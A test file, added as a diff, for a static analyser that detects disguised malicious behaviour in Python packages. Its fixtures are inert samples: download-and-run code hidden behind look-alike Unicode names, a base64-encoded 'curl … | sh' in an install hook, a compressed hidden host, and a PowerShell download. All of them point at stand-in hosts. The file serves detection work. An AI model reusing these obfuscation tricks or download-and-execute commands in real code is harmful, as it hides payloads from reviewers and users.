@@ -1,0 +1,128 @@
+// Ways real malware hides what it does from a reader, each on an inert imitation: names in look-alike Unicode
+// letters that Python normalises, commands and hosts passed through the file's own helper functions.
+import assert from 'node:assert/strict';
+import { before, test } from 'node:test';
+import { initAnalysis } from '../../src/analysis/api.ts';
+import { analyzePythonFile } from '../../src/analysis/python-file.ts';
+import type { Finding } from '../../src/model/result.ts';
+
+before(() => initAnalysis());
+
+function findings(source: string, path = 'demo/mod.py'): Finding[] {
+  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
+}
+const ruleOf = (list: Finding[], rule: string) => list.find((f) => f.rule === rule);
+
+test('names in look-alike Unicode letters resolve as Python reads them (NFKC), and the disguise is reported', () => {
+  const source = [
+    'import requests, subprocess',
+    '𝘂𝗿𝗹 = "http://192.0.2.10/payload.exe"',
+    '𝗿𝗲𝘀𝗽𝗼𝗻𝘀𝗲 = 𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀.𝗴𝗲𝘁(𝘂𝗿𝗹)',
+    "with open('/tmp/p.exe', 'wb') as f:",
+    '    f.write(𝗿𝗲𝘀𝗽𝗼𝗻𝘀𝗲.content)',
+    "𝘀𝘂𝗯𝗽𝗿𝗼𝗰𝗲𝘀𝘀.call(['/tmp/p.exe'])",
+  ].join('\n');
+  const list = findings(source);
+  const call = ruleOf(list, 'egress-network-call');
+  assert.equal(call?.destination?.host, '192.0.2.10', 'requests.get written in bold letters is still requests.get');
+  assert.equal(call?.line, 3, 'line numbers are those of the file as written');
+  assert.match(call?.code ?? '', /𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀/, 'the code shown is the code as written');
+  assert.ok(ruleOf(list, 'process-launch-payload'), 'subprocess.call written in bold letters is still found');
+  const disguise = ruleOf(list, 'unicode-disguised-name');
+  assert.equal(disguise?.severity, 'high', 'several hidden names');
+  assert.match(disguise!.message, /'requests'/);
+});
+
+test('plain non-ASCII names that Python keeps as they are (Greek, accented) are not a disguise', () => {
+  const list = findings('λ = 2\nnaïve = λ * 3\nµ = 1\n');
+  assert.equal(ruleOf(list, 'unicode-disguised-name'), undefined, 'µ normalises to Greek mu, not to ASCII');
+  const one = ruleOf(findings('𝑥 = 1\n'), 'unicode-disguised-name');
+  assert.equal(one?.severity, 'medium', 'one short maths letter stays medium');
+});
+
+test("a command decoded by the file's own helper function is folded through the call", () => {
+  const source = [
+    'import base64, os',
+    'def b64d(encoded):',
+    "    raw = base64.b64decode(encoded.encode('ascii'))",
+    "    return raw.decode('ascii')",
+    'def post_install():',
+    // base64 of: curl -s http://192.0.2.10/x.sh | sh
+    '    os.system(b64d("Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xMC94LnNoIHwgc2g="))',
+  ].join('\n');
+  const found = ruleOf(findings(source), 'download-execute');
+  assert.ok(found, 'the helper is followed with its argument');
+  assert.equal(found.destination?.host, '192.0.2.10');
+});
+
+test("a host decoded by a method of the file's own class is followed, and a host never written is high", () => {
+  const source = [
+    'import base64, zlib',
+    'from http.client import HTTPSConnection',
+    'class Client:',
+    '    def decode(self, data):',
+    '        unpack = lambda blob: zlib.decompress(base64.b64decode(blob))',
+    '        return unpack(data).decode()',
+    '    def ping(self):',
+    // zlib + base64 of: collector.example
+    "        conn = HTTPSConnection(self.decode('eJxLzs/JSU0uyS/SS61IzC3ISQUAPhIG4g=='))",
+    "        conn.request('GET', '/')",
+  ].join('\n');
+  const call = findings(source).find((f) => f.rule === 'egress-network-call' && f.destination?.host);
+  assert.equal(call?.destination?.host, 'collector.example');
+  assert.equal(call?.severity, 'high', 'a host the file never writes was hidden on purpose');
+  assert.match(call!.message, /never writes/);
+});
+
+test('a host written in the file stays low when a library calls it, even when assembled from a written domain', () => {
+  const source = [
+    'import requests',
+    'DOMAIN = "collector.example"',
+    'def fetch(region):',
+    '    return requests.get("https://api." + DOMAIN + "/v1")',
+  ].join('\n');
+  const call = ruleOf(findings(source), 'egress-network-call');
+  assert.equal(call?.destination?.host, 'api.collector.example');
+  assert.equal(call?.severity, 'low');
+});
+
+test("a command handed to the file's own wrapper reaches the process call inside it, with the caller's trigger", () => {
+  const source = [
+    'import subprocess',
+    'def run(cmd):',
+    '    subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)',
+    'run("powershell -command Invoke-WebRequest -Uri https://files.example/u.zip -OutFile u.zip")',
+  ].join('\n');
+  const found = ruleOf(findings(source, 'setup.py'), 'process-network-tool');
+  assert.equal(found?.line, 3);
+  assert.equal(found?.trigger, 'install', 'run() is called by setup.py itself');
+  assert.equal(found?.severity, 'critical');
+  assert.equal(found?.destination?.host, 'files.example');
+});
+
+test('setup.py running a program no build needs is high; build tools, queries and interpreters are not', () => {
+  for (const command of ['notepad', 'touch /tmp/marker', './script.sh', '/bin/sh', 'cat /etc/hostname > LICENSE']) {
+    const found = ruleOf(
+      findings(`import os\nos.system(${JSON.stringify(command)})\n`, 'setup.py'),
+      'process-launch-unknown',
+    );
+    assert.equal(found?.severity, 'high', `${command} at install time`);
+  }
+  const builds = [
+    'subprocess.check_call(["cmake", "--build", "."])',
+    'subprocess.check_output(["git", "describe", "--tags"])',
+    'os.system("sh -c \'make -j4\'")',
+    'subprocess.call([sys.executable, "-m", "pip", "--version"])',
+    'os.popen("mysql_config --cflags")',
+    'subprocess.check_call(["bash", "build.sh"])',
+  ];
+  for (const line of builds) {
+    const list = findings(`import os, subprocess, sys\n${line}\n`, 'setup.py');
+    assert.equal(ruleOf(list, 'process-launch-unknown'), undefined, line);
+  }
+  assert.equal(
+    ruleOf(findings('import os\nos.system("notepad")\n'), 'process-launch-unknown'),
+    undefined,
+    'when called',
+  );
+});
